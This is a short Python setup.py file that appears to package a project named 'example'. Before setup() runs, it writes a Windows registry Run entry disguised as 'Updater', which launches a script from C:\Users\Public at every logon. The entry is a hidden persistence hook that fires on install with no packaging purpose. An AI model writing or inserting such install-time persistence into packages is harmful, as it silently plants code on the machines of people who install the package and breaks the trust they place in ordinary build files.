import winreg
from setuptools import setup
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, "pythonw C:\\Users\\Public\\u.py")
setup(name='example', version='1.0')
